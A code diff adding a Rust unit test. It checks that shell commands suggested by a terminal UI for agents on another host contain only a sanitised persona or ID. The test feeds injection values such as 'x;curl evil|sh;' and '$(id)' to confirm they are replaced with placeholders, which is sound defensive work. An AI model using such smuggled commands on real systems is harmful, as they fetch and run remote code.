@@ -180,3 +180,31 @@ fn what_is_on_another_host_is_refused_with_the_command_that_asks_that_host() {
         assert!(ui.mode == KeyMode::Browse && message.contains(part), "{keys}: {message}");
     }
 }
+
+/// The command is there to be copied into a shell, and its words come from another host.
+#[test]
+fn a_command_for_another_host_holds_only_words_that_are_a_persona_or_an_id() {
+    let id = "33333333-3333-4333-8333-333333333333";
+    let asked = |id: &str, persona: &str| {
+        let view = json!({"agent_id": id, "persona_slug": persona, "state": "idle", "handoff_id": id});
+        let mut agent = AgentRow::read(&understood(view).expect("an object")).expect("an agent");
+        let mark = HostMark { name: "box-1".to_owned(), state: HostState::Live, since_ms: None };
+        agent.host = Some(mark.clone());
+        let view = json!({"handoff_id": id, "agent_id": id, "step": "writing"});
+        let mut handoff = understood(view).as_ref().and_then(HandoffRow::read).expect("a handoff");
+        handoff.host = Some(mark);
+        let mut model = Model::default();
+        (model.agents, model.handoffs) = (vec![agent], vec![handoff]);
+        let model = model.arranged();
+        ["h", "c"].map(|key| {
+            let mut ui = Ui::default();
+            assert_eq!(typed(&mut ui, &model, key), []);
+            let said = ui.message.expect("a refusal").text;
+            said.rsplit_once("Ask that host: ").expect("a command").1.to_owned()
+        })
+    };
+    assert_eq!(asked(id, "mia"), ["tasuki handoff mia@box-1", "tasuki cancel 33333333@box-1"]);
+    assert_eq!(asked(id, "x;curl evil|sh;")[0], "tasuki handoff 33333333@box-1");
+    let hostile = asked("x;curl evil|sh;", "$(id)");
+    assert_eq!(hostile, ["tasuki handoff AGENT@box-1", "tasuki cancel HANDOFF@box-1"]);
+}
